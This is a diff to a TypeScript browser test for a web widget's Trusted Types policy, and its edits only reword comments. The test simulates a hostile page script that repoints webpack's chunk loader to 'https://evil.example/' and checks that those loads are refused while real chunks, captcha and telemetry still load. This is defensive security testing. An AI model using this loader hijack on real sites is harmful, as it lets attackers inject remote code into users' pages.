@@ -5,7 +5,7 @@ import { askForEmailCode, EMAIL_CODE, emailField, shown } from '../support/widge
 
 const suite = useSite();
 
-/** What a script of others on the page can reach through the list that chunks are pushed to. */
+/** What other scripts of the page can reach through webpack's array of chunks. */
 const tried = (urls: readonly string[]): string[] => {
   interface Loader {
     p: string;
@@ -13,7 +13,7 @@ const tried = (urls: readonly string[]): string[] => {
   }
   const answers: string[] = [];
   const attack = (loader: Loader) => {
-    // The folder of chunks in webpack's own loader.
+    // The public path of webpack's chunk loader.
     loader.p = 'https://evil.example/';
     for (const url of urls)
       try {
@@ -53,7 +53,7 @@ describe('§1 Scripts: the widget’s Trusted Types policy, called by another sc
     ];
     expect(new Set(await page.evaluate(tried, refused))).toEqual(new Set(['refused']));
 
-    // Chunks and the scripts of captcha and telemetry still come.
+    // Chunks, captcha and telemetry scripts still load.
     await askForEmailCode(page, 'policy@example.com');
     expect(requested.filter((url) => /enterprise\.js|telemetry\.js/.test(url))).toHaveLength(2);
     expect(new Set(await page.evaluate(tried, refused))).toEqual(new Set(['refused']));
